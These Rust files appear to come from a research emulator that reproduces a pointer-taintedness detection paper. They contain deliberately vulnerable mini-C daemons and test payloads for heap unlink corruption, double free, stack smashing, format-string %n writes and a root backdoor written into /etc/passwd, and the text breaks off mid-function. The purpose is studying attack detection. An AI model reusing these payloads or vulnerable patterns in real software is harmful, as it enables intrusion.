    body = malloc(1024 + content_length);
    n = recv(s, body, 8192, 0);         /* overruns the undersized chunk */
    if (n > 0) body[n] = 0;
    reply(s, "200 OK posted\r\n");
    free(body);                          /* coalescing unlink -> detection */
}

int main() {
    char req[512];
    int s;
    int c;
    int n;
    char *scratch;
    conf.cgi_root = "/usr/local/httpd/cgi-bin";
    conf.max_clients = 8;
    /* Connection bookkeeping leaves a freed chunk on the heap — the free
     * neighbour the overflow corrupts. */
    scratch = malloc(400);
    free(scratch);
    s = socket();
    bind(s, 80);
    listen(s);
    /* multithreaded in the original; sequential accept loop here */
    while (1) {
        c = accept(s);
        if (c < 0) break;
        while (1) {
            n = recv(c, req, 511, 0);
            if (n <= 0) break;
            req[n] = 0;
            if (strncmp(req, "POST ", 5) == 0) {
                handle_post(c, req);
            } else if (strncmp(req, "GET ", 4) == 0) {
                char *sp = strchr(req + 4, ' ');
                if (sp) *sp = 0;
                serve_get(c, req + 4);
            } else {
                reply(c, "400 bad request\r\n");
            }
        }
        close(c);
    }
    return 0;
}
"#;

/// Heap geometry shared by the payload builder and the server: the first
/// chunk's payload starts 8 bytes past the initial program break.
fn heap_base(image: &Image) -> u32 {
    image.data_end().div_ceil(PAGE_SIZE) * PAGE_SIZE
}

/// Builds the malicious POST body.
///
/// Layout (the POST buffer is `malloc(1024 + (-800)) = malloc(224)`,
/// payload 224 bytes; the split free remainder's header follows):
///
/// ```text
/// [0..8)    scratch (free() later reuses these words for its own fd/bk)
/// [8..13)   "/bin\0"                   — the string the config will point at
/// [13..224) filler
/// [224..228) prev_size (ignored)
/// [228..232) forged size: even, >= 24  — keeps the chunk "free"
/// [232..236) fd = &conf - 12           — so fd->bk aliases conf.cgi_root
/// [236..240) bk = &body[8]             — the "/bin" string above
/// ```
#[must_use]
pub fn post_body(image: &Image) -> Vec<u8> {
    let conf = image.symbol("conf").expect("null_httpd defines conf");
    let body_addr = heap_base(image) + 8; // first chunk payload (reused)
    let mut body = Vec::with_capacity(240);
    body.extend_from_slice(b"AAAAAAAA");
    body.extend_from_slice(b"/bin\0");
    body.resize(224, b'A');
    body.extend_from_slice(&40u32.to_le_bytes()); // prev_size
    body.extend_from_slice(&40u32.to_le_bytes()); // forged size
    body.extend_from_slice(&(conf.wrapping_sub(12)).to_le_bytes()); // fd
    body.extend_from_slice(&(body_addr + 8).to_le_bytes()); // bk
    body
}

/// The attack session: the malicious POST followed by the CGI request that
/// cashes in the corrupted configuration.
#[must_use]
pub fn attack_world(image: &Image) -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"POST /form HTTP/1.0\r\nContent-Length: -800\r\n\r\n".to_vec(),
        post_body(image),
        b"GET /cgi-bin/sh HTTP/1.0\r\n\r\n".to_vec(),
    ]))
}

/// A benign session: a normal POST and a CGI request.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![
        b"POST /form HTTP/1.0\r\nContent-Length: 11\r\n\r\n".to_vec(),
        b"name=nobody".to_vec(),
        b"GET /cgi-bin/status HTTP/1.0\r\n\r\n".to_vec(),
        b"GET /index.html HTTP/1.0\r\n\r\n".to_vec(),
    ]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn attack_detected_inside_free() {
        let image = image();
        let out = run_app(
            &image,
            attack_world(&image),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("heap attack must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The faulting access is the unlink's `fd->bk = bk` store: its
        // address operand is the tainted `fd + 12 = (&conf - 12) + 12`, so
        // the alert's pointer is exactly the config word the attacker was
        // about to overwrite.
        let conf = image.symbol("conf").unwrap();
        assert_eq!(alert.pointer, conf);
        let unlink = image.symbol("__unlink").unwrap();
        assert!(
            alert.pc >= unlink && alert.pc < unlink + 0x100,
            "alert at {:#x}, unlink at {unlink:#x}",
            alert.pc
        );
    }

    #[test]
    fn attack_compromises_cgi_root_without_protection() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::Off);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        // The CGI request resolved against the corrupted config: root shell.
        assert!(transcript.contains("EXEC /bin/sh"), "{transcript}");
    }

    #[test]
    fn attack_missed_by_control_only_baseline() {
        let image = image();
        let out = run_app(&image, attack_world(&image), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("EXEC /bin/sh"), "{transcript}");
    }

    #[test]
    fn benign_session_is_clean() {
        let image = image();
        let out = run_app(&image, benign_world(), DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let transcript = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        assert!(transcript.contains("200 OK posted"), "{transcript}");
        assert!(
            transcript.contains("EXEC /usr/local/httpd/cgi-bin/status"),
            "{transcript}"
        );
        assert!(transcript.contains("200 OK static"), "{transcript}");
    }
}

#[cfg(test)]
mod multi_client_tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_os::ExitReason;

    #[test]
    fn serves_multiple_clients_sequentially() {
        let image = build(SOURCE).unwrap();
        let world = WorldConfig::new()
            .session(NetSession::new(vec![
                b"GET /index.html HTTP/1.0\r\n\r\n".to_vec()
            ]))
            .session(NetSession::new(vec![
                b"GET /cgi-bin/status HTTP/1.0\r\n\r\n".to_vec(),
            ]));
        let out = run_app(&image, world, DetectionPolicy::PointerTaintedness);
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let t0 = String::from_utf8_lossy(&out.transcripts[0]).into_owned();
        let t1 = String::from_utf8_lossy(&out.transcripts[1]).into_owned();
        assert!(t0.contains("200 OK static"), "{t0}");
        assert!(t1.contains("EXEC /usr/local/httpd/cgi-bin/status"), "{t1}");
    }

    #[test]
    fn attack_after_benign_client_still_detected() {
        // A benign client reshuffles the heap first; the attacker's groomed
        // layout assumptions break, but the forged (tainted) links still
        // trip the detector inside free().
        let image = build(SOURCE).unwrap();
        let mut world = WorldConfig::new().session(NetSession::new(vec![
            b"POST /form HTTP/1.0\r\nContent-Length: 11\r\n\r\n".to_vec(),
            b"name=nobody".to_vec(),
        ]));
        for session in attack_world(&image).sessions {
            world = world.session(session);
        }
        let out = run_app(&image, world, DetectionPolicy::PointerTaintedness);
        assert!(out.reason.is_detected(), "{:?}", out.reason);
    }
}
