//! The three engineered **false-negative** scenarios of the paper's §5.3 /
//! Table 4 — attacks that succeed *without* tainting any pointer, so the
//! architecture (by design) does not detect them.
//!
//! * (A) integer overflow → out-of-bounds array index: the bound check
//!   untaints the index (Table 1's compare rule), and the index was always
//!   *meant* to be used in address arithmetic;
//! * (B) buffer overflow corrupting an adjacent authentication flag: the
//!   corrupted value is only ever branched on, never dereferenced;
//! * (C) format-string information leak: `%x` directives read stack words
//!   (including a secret) without dereferencing any tainted value.

use ptaint_os::WorldConfig;

/// Table 4(A): flawed array-index bound check (no lower bound). The guard
/// word sits immediately below the table in the data segment, so index -1
/// corrupts it — silently, because the compared index is untainted.
pub const INT_OVERFLOW_SOURCE: &str = r#"
int guard;                      /* the word at table[-1] */
int table[16];

int main() {
    char buf[32];
    int i;
    scanf("%s", buf);
    i = atoi(buf);              /* attacker: "-1" (or a huge unsigned) */
    if (i <= 15) {              /* bound check forgets the lower bound */
        table[i] = 1;
    }
    if (guard != 0) {
        printf("GUARD CORRUPTED\n");
        return 0;
    }
    printf("table updated safely\n");
    return 0;
}
"#;

/// Attack input for scenario (A).
#[must_use]
pub fn int_overflow_attack_world() -> WorldConfig {
    WorldConfig::new().stdin(b"-1".to_vec())
}

/// Benign input for scenario (A).
#[must_use]
pub fn int_overflow_benign_world() -> WorldConfig {
    WorldConfig::new().stdin(b"7".to_vec())
}

/// Table 4(B): authentication-flag overwrite. `auth` is declared before
/// the buffer, so it sits at the higher address and an overflow of exactly
/// 20 bytes sets it — no pointer is ever tainted.
pub const AUTH_FLAG_SOURCE: &str = r#"
int check_password(char *pw) {
    return strcmp(pw, "letmein") == 0;
}

int main() {
    int auth;
    char pw[16];
    auth = 0;
    gets(pw);                   /* overflow reaches auth */
    if (check_password(pw)) auth = 1;
    if (auth) {
        printf("ACCESS GRANTED\n");
        return 0;
    }
    printf("access denied\n");
    return 1;
}
"#;

/// Attack input for scenario (B): 16 filler bytes, then a nonzero word
/// lands in `auth`.
#[must_use]
pub fn auth_flag_attack_world() -> WorldConfig {
    let mut input = vec![b'x'; 16];
    input.extend_from_slice(b"AAAA\n");
    WorldConfig::new().stdin(input)
}

/// Benign inputs for scenario (B).
#[must_use]
pub fn auth_flag_good_password_world() -> WorldConfig {
    WorldConfig::new().stdin(b"letmein\n".to_vec())
}

/// Wrong-password input for scenario (B).
#[must_use]
pub fn auth_flag_bad_password_world() -> WorldConfig {
    WorldConfig::new().stdin(b"guess\n".to_vec())
}

/// Table 4(C): format-string information leak. The declaration order puts
/// `secret_key` two words above the formatter's initial argument pointer,
/// so `%x%x%x` prints it.
pub const FMT_LEAK_SOURCE: &str = r#"
int main() {
    char buf[100];
    int secret_key;
    int n;
    secret_key = 0x12345678;
    n = read(0, buf, 99);
    if (n < 0) return 1;
    buf[n] = 0;
    printf(buf);                /* format-string vulnerability */
    printf("\n");
    return 0;
}
"#;

/// Attack input for scenario (C): enough `%x` directives to walk past the
/// locals up to the secret.
#[must_use]
pub fn fmt_leak_attack_world() -> WorldConfig {
    WorldConfig::new().stdin(b"%x%x%x%x".to_vec())
}

/// Benign input for scenario (C).
#[must_use]
pub fn fmt_leak_benign_world() -> WorldConfig {
    WorldConfig::new().stdin(b"hello".to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_cpu::DetectionPolicy;
    use ptaint_os::ExitReason;

    #[test]
    fn scenario_a_corrupts_memory_without_any_alert() {
        let image = build(INT_OVERFLOW_SOURCE).unwrap();
        let out = run_app(
            &image,
            int_overflow_attack_world(),
            DetectionPolicy::PointerTaintedness,
        );
        // Undetected by design: the compared index is untainted.
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        assert!(
            out.stdout_text().contains("GUARD CORRUPTED"),
            "{}",
            out.stdout_text()
        );
    }

    #[test]
    fn scenario_a_benign_index_is_inbounds() {
        let image = build(INT_OVERFLOW_SOURCE).unwrap();
        let out = run_app(
            &image,
            int_overflow_benign_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.stdout_text(), "table updated safely\n");
    }

    #[test]
    fn scenario_b_grants_access_without_any_alert() {
        let image = build(AUTH_FLAG_SOURCE).unwrap();
        let out = run_app(
            &image,
            auth_flag_attack_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        assert!(
            out.stdout_text().contains("ACCESS GRANTED"),
            "{}",
            out.stdout_text()
        );
    }

    #[test]
    fn scenario_b_password_paths_work() {
        let image = build(AUTH_FLAG_SOURCE).unwrap();
        let ok = run_app(
            &image,
            auth_flag_good_password_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert!(ok.stdout_text().contains("ACCESS GRANTED"));
        let bad = run_app(
            &image,
            auth_flag_bad_password_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert!(bad.stdout_text().contains("access denied"));
        assert_eq!(bad.reason, ExitReason::Exited(1));
    }

    #[test]
    fn scenario_c_leaks_the_secret_without_any_alert() {
        let image = build(FMT_LEAK_SOURCE).unwrap();
        let out = run_app(
            &image,
            fmt_leak_attack_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        assert!(
            out.stdout_text().contains("12345678"),
            "secret must leak: {}",
            out.stdout_text()
        );
    }

    #[test]
    fn scenario_c_benign_echo() {
        let image = build(FMT_LEAK_SOURCE).unwrap();
        let out = run_app(
            &image,
            fmt_leak_benign_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.stdout_text(), "hello\n");
    }
}
