//! An LBNL-traceroute-style utility with the *double free* vulnerability
//! (BID-1739), reproducing the paper's §5.1.2 experiment.
//!
//! `savestr()` hands out memory from one shared slab; the gateway
//! registration path frees the returned pointer — which is the slab itself.
//! With `-g x -g y` on the command line, the second `savestr` writes the
//! (tainted) argument string into the *already freed* chunk, clobbering its
//! `fd`/`bk` list links; the second `free` then takes the buggy
//! "already-free → unlink first" path and dereferences the argv bytes as a
//! chunk pointer. The paper reports the alert at a store inside `free()`
//! whose pointer is `0x333231` — the bytes `"123"` of the attacker's
//! argument; our allocator alerts on the same unlink store with the
//! corresponding argv-derived pointer.

use ptaint_os::WorldConfig;

/// The traceroute-like tool.
pub const SOURCE: &str = r#"
char *tr_slab;

/* LBNL savestr(): amortize allocations by carving from one shared slab. */
char *savestr(char *s) {
    char *p;
    if (!tr_slab) {
        tr_slab = malloc(500);
    }
    p = tr_slab;
    strcpy(p, s);
    return p;
}

void register_gateway(char *spec) {
    char *gw;
    gw = savestr(spec);
    printf("gateway %s\n", gw);
    /* BID-1739: releases savestr's shared slab. The second -g frees the
     * same chunk again. */
    free(gw);
}

int main(int argc, char **argv) {
    int i;
    for (i = 1; i < argc; i++) {
        if (strcmp(argv[i], "-g") == 0 && i + 1 < argc) {
            register_gateway(argv[i + 1]);
            i++;
        } else {
            printf("probing %s\n", argv[i]);
        }
    }
    printf("traceroute done\n");
    return 0;
}
"#;

/// The paper's attacking command line: `traceroute -g 123 -g 5.6.7.8`.
#[must_use]
pub fn attack_world() -> WorldConfig {
    WorldConfig::new().args(["traceroute", "-g", "123", "-g", "5.6.7.8"])
}

/// A benign command line with a single gateway.
#[must_use]
pub fn benign_world() -> WorldConfig {
    WorldConfig::new().args(["traceroute", "-g", "10.0.0.1", "example.host"])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::run_app;
    use crate::build;
    use ptaint_asm::Image;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    fn image() -> Image {
        build(SOURCE).unwrap()
    }

    #[test]
    fn double_free_detected_with_argv_bytes_as_pointer() {
        let image = image();
        let out = run_app(&image, attack_world(), DetectionPolicy::PointerTaintedness);
        let alert = out.reason.alert().expect("double free must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The dereferenced pointer is built from the second argument's bytes
        // ("5.6." = 0x2e362e35) that overwrote the freed chunk's fd link
        // (the unlink store's address operand is fd + 12).
        assert_eq!(alert.pointer, 0x2e36_2e35 + 12);
        // And it fires inside the allocator.
        let unlink = image.symbol("__unlink").unwrap();
        assert!(
            alert.pc >= unlink && alert.pc < unlink + 0x100,
            "alert pc {:#x}",
            alert.pc
        );
    }

    #[test]
    fn crashes_without_protection() {
        // The paper: "traceroute crashes because free() is using an invalid
        // pointer" — the wild unlink store lands on an unaligned address.
        let out = run_app(&image(), attack_world(), DetectionPolicy::Off);
        assert!(
            matches!(out.reason, ExitReason::MemFault(_)),
            "{:?}",
            out.reason
        );
    }

    #[test]
    fn missed_by_control_only_baseline() {
        let out = run_app(&image(), attack_world(), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn benign_run_is_clean() {
        let out = run_app(
            &image(),
            benign_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0), "{:?}", out.reason);
        let text = out.stdout_text();
        assert!(text.contains("gateway 10.0.0.1"), "{text}");
        assert!(text.contains("probing example.host"), "{text}");
        assert!(text.contains("traceroute done"), "{text}");
    }
}
