//! The synthetic vulnerable functions of the paper's Figure 2 / §5.1.1:
//! exp1 (stack buffer overflow), exp2 (heap corruption), exp3 (format
//! string).

use ptaint_os::{NetSession, WorldConfig};

/// `exp1()` — the paper's stack smashing example: a 10-byte stack buffer
/// filled by an unbounded `scanf("%s", buf)`. Overflowing input overwrites
/// the saved frame pointer and then the return address (Figure 2, top).
pub const EXP1_SOURCE: &str = r#"
void exp1() {
    char buf[10];
    scanf("%s", buf);
}

int main() {
    exp1();
    printf("exp1 returned normally\n");
    return 0;
}
"#;

/// The paper's exp1 attack input: 24 `'a'` characters. Bytes 14..18 of the
/// overflow land in the saved return address, so `exp1` returns to
/// `0x61616161` — the value the paper reports in its alert.
#[must_use]
pub fn exp1_attack_world() -> WorldConfig {
    WorldConfig::new().stdin(vec![b'a'; 24])
}

/// A benign exp1 input that fits the buffer.
#[must_use]
pub fn exp1_benign_world() -> WorldConfig {
    WorldConfig::new().stdin(b"short".to_vec())
}

/// `exp2()` — the paper's heap corruption example: an 8-byte heap buffer
/// overflowed into the free chunk that physically follows it, corrupting
/// the chunk's forward/backward links; `free()`'s coalescing unlink then
/// dereferences the attacker's words (Figure 2, middle).
pub const EXP2_SOURCE: &str = r#"
int main() {
    char *buf;
    char *scratch;
    buf = malloc(8);
    scratch = malloc(64);
    free(scratch);              /* leaves a free chunk right after buf */
    scanf("%s", buf);           /* unbounded: overruns into the free chunk */
    free(buf);                  /* unlink dereferences corrupted fd/bk */
    printf("exp2 returned normally\n");
    return 0;
}
"#;

/// exp2 attack input. `buf`'s chunk holds 16 payload bytes; the following
/// free chunk's header starts right after:
///
/// ```text
/// [16 filler] [prev_size: 4] [size: 0x28, even] [fd: "aaaa"] [bk: "aaaa"]
/// ```
///
/// The forged `size` keeps its in-use bit clear so `free(buf)` coalesces
/// forward and unlinks the chunk through the tainted `fd = 0x61616161`.
#[must_use]
pub fn exp2_attack_world() -> WorldConfig {
    let mut payload = vec![b'a'; 16]; // fill buf's chunk payload
    payload.extend_from_slice(&40u32.to_le_bytes()); // prev_size (unused)
    payload.extend_from_slice(&40u32.to_le_bytes()); // size: even, >= 24
    payload.extend_from_slice(b"aaaa"); // fd -> 0x61616161
    payload.extend_from_slice(b"aaaa"); // bk
    WorldConfig::new().stdin(payload)
}

/// Benign exp2 input that stays within the 8 requested bytes.
#[must_use]
pub fn exp2_benign_world() -> WorldConfig {
    WorldConfig::new().stdin(b"ok".to_vec())
}

/// `exp3()` — the paper's format string example: a socket-filled buffer
/// passed to `printf` as the format argument (Figure 2, bottom). `%x` pads
/// march the argument pointer `ap` up the stack into `buf`, and the `%n`
/// store then dereferences `buf[0..4] = 0x64636261` ("abcd"). The paper's
/// libc frame geometry needed three pads (`abcd%x%x%x%n`); our guest libc
/// needs one (`abcd%x%n`) — the calibration helper discovers the count, and
/// the detection event is byte-for-byte the paper's: a store through the
/// tainted word `0x64636261`.
pub const EXP3_SOURCE: &str = r#"
int exp3(int s) {
    char buf[100];
    int n;
    n = recv(s, buf, 99, 0);
    if (n < 0) return -1;
    buf[n] = 0;
    printf(buf);                /* format-string vulnerability */
    return n;
}

int main() {
    int s;
    int c;
    s = socket();
    bind(s, 7);
    listen(s);
    c = accept(s);
    exp3(c);
    send(c, "done\n", 5);
    return 0;
}
"#;

/// The paper's exp3 attack string with a configurable number of `%x`
/// pads (the paper's stack layout needs exactly three).
#[must_use]
pub fn exp3_attack_world(pad: usize) -> WorldConfig {
    let mut msg = b"abcd".to_vec();
    msg.extend_from_slice("%x".repeat(pad).as_bytes());
    msg.extend_from_slice(b"%n");
    WorldConfig::new().session(NetSession::new(vec![msg]))
}

/// A benign exp3 message without format directives.
#[must_use]
pub fn exp3_benign_world() -> WorldConfig {
    WorldConfig::new().session(NetSession::new(vec![b"plain text".to_vec()]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::apps::{calibrate_format_pad, run_app};
    use crate::build;
    use ptaint_cpu::{AlertKind, DetectionPolicy};
    use ptaint_os::ExitReason;

    #[test]
    fn exp1_detected_at_return_instruction() {
        let image = build(EXP1_SOURCE).unwrap();
        let out = run_app(
            &image,
            exp1_attack_world(),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("stack smash must be detected");
        // The paper: alert at `jr $31`, return address tainted 0x61616161.
        assert_eq!(alert.kind, AlertKind::JumpPointer);
        assert_eq!(alert.instr.to_string(), "jr $31");
        assert_eq!(alert.pointer, 0x6161_6161);
    }

    #[test]
    fn exp1_also_detected_by_control_only_baseline() {
        // A control-data attack: Minos-style protection catches it too.
        let image = build(EXP1_SOURCE).unwrap();
        let out = run_app(&image, exp1_attack_world(), DetectionPolicy::ControlOnly);
        assert!(out.reason.is_detected());
    }

    #[test]
    fn exp1_crashes_wild_without_protection() {
        let image = build(EXP1_SOURCE).unwrap();
        let out = run_app(&image, exp1_attack_world(), DetectionPolicy::Off);
        // Control flow lands at 0x61616161 — a crash, or worse if the
        // attacker had placed real code bytes there.
        assert!(
            matches!(
                out.reason,
                ExitReason::MemFault(_) | ExitReason::DecodeFault(_)
            ),
            "{:?}",
            out.reason
        );
    }

    #[test]
    fn exp1_benign_run_is_clean() {
        let image = build(EXP1_SOURCE).unwrap();
        for policy in [
            DetectionPolicy::PointerTaintedness,
            DetectionPolicy::ControlOnly,
            DetectionPolicy::Off,
        ] {
            let out = run_app(&image, exp1_benign_world(), policy);
            assert_eq!(out.reason, ExitReason::Exited(0), "{policy}");
            assert_eq!(out.stdout_text(), "exp1 returned normally\n");
        }
    }

    #[test]
    fn exp2_detected_inside_free() {
        let image = build(EXP2_SOURCE).unwrap();
        let out = run_app(
            &image,
            exp2_attack_world(),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out
            .reason
            .alert()
            .expect("heap corruption must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        // The dereferenced pointer derives from the attacker's "aaaa" links.
        assert_eq!(alert.pointer & 0xffff_ff00, 0x6161_6100);
        // The alert fires inside the allocator's unlink.
        let unlink = image.symbol("__unlink").unwrap();
        let free_fn = image.symbol("free").unwrap();
        assert!(
            alert.pc >= unlink && alert.pc < free_fn + 0x200,
            "alert pc {:#x} not inside the allocator (unlink at {unlink:#x})",
            alert.pc
        );
    }

    #[test]
    fn exp2_missed_by_control_only_baseline() {
        // A non-control-data attack in the making: the baseline lets the
        // unlink write proceed.
        let image = build(EXP2_SOURCE).unwrap();
        let out = run_app(&image, exp2_attack_world(), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn exp2_benign_run_is_clean() {
        let image = build(EXP2_SOURCE).unwrap();
        let out = run_app(
            &image,
            exp2_benign_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
    }

    #[test]
    fn exp3_detected_at_percent_n_store_with_papers_pointer() {
        let image = build(EXP3_SOURCE).unwrap();
        let pad = calibrate_format_pad(&image, exp3_attack_world, 0x6463_6261, 16)
            .expect("some pad count must reach the buffer");
        // The paper's vfprintf needed three %x pads; our printf frame
        // geometry needs one. Either way ap lands on buf[0..4].
        assert_eq!(pad, 1, "guest libc frame geometry");
        let out = run_app(
            &image,
            exp3_attack_world(pad),
            DetectionPolicy::PointerTaintedness,
        );
        let alert = out.reason.alert().expect("format string must be detected");
        assert_eq!(alert.kind, AlertKind::DataPointer);
        assert_eq!(
            alert.pointer, 0x6463_6261,
            "first four payload bytes 'abcd'"
        );
        assert!(
            alert.instr.to_string().starts_with("sw "),
            "{}",
            alert.instr
        );
    }

    #[test]
    fn exp3_missed_by_control_only_baseline() {
        let image = build(EXP3_SOURCE).unwrap();
        let out = run_app(&image, exp3_attack_world(3), DetectionPolicy::ControlOnly);
        assert!(!out.reason.is_detected(), "{:?}", out.reason);
    }

    #[test]
    fn exp3_benign_run_is_clean() {
        let image = build(EXP3_SOURCE).unwrap();
        let out = run_app(
            &image,
            exp3_benign_world(),
            DetectionPolicy::PointerTaintedness,
        );
        assert_eq!(out.reason, ExitReason::Exited(0));
        assert_eq!(out.transcripts[0], b"done\n");
    }
}
