//! The victim programs of the paper's evaluation (§5.1), with attack
//! payload builders and benign inputs.
//!
//! | Module | Paper experiment | Attack class |
//! |---|---|---|
//! | [`synthetic`] | Figure 2 / §5.1.1 exp1–exp3 | stack smash, heap corruption, format string |
//! | [`wu_ftpd`] | Table 2 / §5.1.2 | format string overwriting a UID word (non-control data) |
//! | [`null_httpd`] | §5.1.2 | heap chunk-link corruption retargeting the CGI-BIN config (non-control data) |
//! | [`ghttpd`] | §5.1.2 | stack overflow corrupting a URL data pointer (non-control data) |
//! | [`traceroute`] | §5.1.2 | double free dereferencing argv bytes as chunk links |
//! | [`globd`] | Figure 1's "globbing" category (CA-2001-07 style) | `~user` tilde-expansion heap overflow |
//! | [`dispatchd`] | footnote 3's GOT-entry target | function-pointer table overwrite (control data) |
//! | [`table4`] | §5.3 Table 4 | the three engineered false-negative scenarios |
//!
//! Each module exposes its mini-C `SOURCE`, world builders for the attack
//! and a benign run, and (where the paper's exploit needs stack-layout
//! knowledge) a calibration helper that discovers the right amount of
//! format-string padding the same way a real attacker would — by probing.

pub mod dispatchd;
pub mod ghttpd;
pub mod globd;
pub mod null_httpd;
pub mod synthetic;
pub mod table4;
pub mod traceroute;
pub mod wu_ftpd;

use ptaint_asm::Image;
use ptaint_cpu::DetectionPolicy;
use ptaint_mem::HierarchyConfig;
use ptaint_os::{load, run_to_exit, RunOutcome, WorldConfig};

/// Default step budget for app runs (generous; the daemons run a few
/// million instructions).
pub const STEP_LIMIT: u64 = 200_000_000;

/// Loads `image` into a fresh machine with `world` and runs it to
/// completion under `policy`.
#[must_use]
pub fn run_app(image: &Image, world: WorldConfig, policy: DetectionPolicy) -> RunOutcome {
    let (mut cpu, mut os) = load(image, world, policy, HierarchyConfig::flat());
    run_to_exit(&mut cpu, &mut os, STEP_LIMIT)
}

/// Probes format-string padding like a real attacker: tries `%x` pad counts
/// `0..max_pad`, running the attack under full pointer-taintedness detection
/// until the `%n` store dereferences exactly `target` (the alert's tainted
/// pointer equals the address the payload embedded).
///
/// Returns the first working pad count.
pub fn calibrate_format_pad(
    image: &Image,
    mut world_for_pad: impl FnMut(usize) -> WorldConfig,
    target: u32,
    max_pad: usize,
) -> Option<usize> {
    for pad in 0..max_pad {
        let outcome = run_app(
            image,
            world_for_pad(pad),
            DetectionPolicy::PointerTaintedness,
        );
        if let Some(alert) = outcome.reason.alert() {
            if alert.pointer == target {
                return Some(pad);
            }
        }
    }
    None
}
