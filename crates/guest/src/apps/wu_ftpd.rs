//! A WU-FTPD-style FTP daemon with the *Site Exec Command Format String
//! Vulnerability* (BID-1387), reproducing the paper's Table 2 experiment.
//!
//! The attack is the paper's **non-control-data** exploit: the `SITE EXEC`
//! argument is logged through `printf(cmd)` — a format string under client
//! control. The payload embeds the address of the server's `session_uid`
//! word and a `%n` directive; when the argument pointer has been marched
//! onto the embedded address, `%n` stores the output count through it,
//! corrupting the user's identity without touching any control data. A
//! corrupted (non-anonymous) UID lets the attacker `STOR /etc/passwd` and
//! plant a root backdoor account, as in the paper.
//!
//! Under pointer-taintedness detection, the `%n` store dereferences a
//! tainted word and raises the Table 2 alert (`sw …  $r=<uid address>`)
//! before any corruption happens.

use ptaint_asm::Image;
use ptaint_os::{NetSession, WorldConfig};

/// The FTP daemon. `__addr_pad` pushes `session_uid` deep enough into the
/// data segment that its address contains no zero bytes (a NUL would
/// truncate the format string — the same constraint real format-string
/// exploits deal with).
pub const SOURCE: &str = r#"
char __addr_pad[66560];         /* keep subsequent globals NUL-free */
int session_uid;                /* 1000 = anonymous/user; the attack target */
int logged_in;

void reply(int s, char *msg) {
    send(s, msg, strlen(msg));
}

void log_command(char *cmd) {
    /* BID-1387: the user-supplied string is the format argument. */
    printf(cmd);
    printf("\n");
}

void store_passwd(int s) {
    int fd;
    /* Only privileged (non-anonymous) sessions may replace /etc/passwd. */
    if (session_uid == 1000) {
        reply(s, "550 permission denied\r\n");
        return;
    }
    fd = open("/etc/passwd", 1);
    write(fd, "alice:x:0:0::/home/root:/bin/bash\n", 34);
    close(fd);
    reply(s, "226 transfer complete\r\n");
}

int handle(int s, char *cmd) {
    if (strncmp(cmd, "USER ", 5) == 0) {
        session_uid = 1000;
        reply(s, "331 Password required.\r\n");
        return 0;
    }
    if (strncmp(cmd, "PASS ", 5) == 0) {
        logged_in = 1;
        reply(s, "230 User logged in.\r\n");
        return 0;
    }
    if (strncmp(cmd, "SITE EXEC ", 10) == 0) {
        log_command(cmd + 10);
        reply(s, "200 site exec accepted\r\n");
        return 0;
    }
    if (strncmp(cmd, "STOR /etc/passwd", 16) == 0) {
        store_passwd(s);
        return 0;
    }
    if (strncmp(cmd, "QUIT", 4) == 0) {
        reply(s, "221 Goodbye.\r\n");
        return 1;
    }
    reply(s, "500 unknown command\r\n");
    return 0;
}

int main() {
    char line[256];             /* stack command buffer, as in WU-FTPD */
    int s;
    int c;
    int n;
    s = socket();
    bind(s, 21);
    listen(s);
    c = accept(s);
    reply(c, "220 FTP server (Version wu-2.6.0(1)) ready.\r\n");
    while (1) {
        n = recv(c, line, 255, 0);
        if (n <= 0) break;
        line[n] = 0;
        if (handle(c, line)) break;
    }
    close(c);
    return 0;
}
"#;

/// Builds the malicious `SITE EXEC` command for a given `%x` pad count:
/// `SITE EXEC ..<uid address>%x…%x%n` (two filler bytes keep the embedded
/// address word-aligned within the server's `line` buffer).
#[must_use]
pub fn site_exec_payload(uid_addr: u32, pad: usize) -> Vec<u8> {
    let mut cmd = b"SITE EXEC ".to_vec();
    cmd.extend_from_slice(b"..");
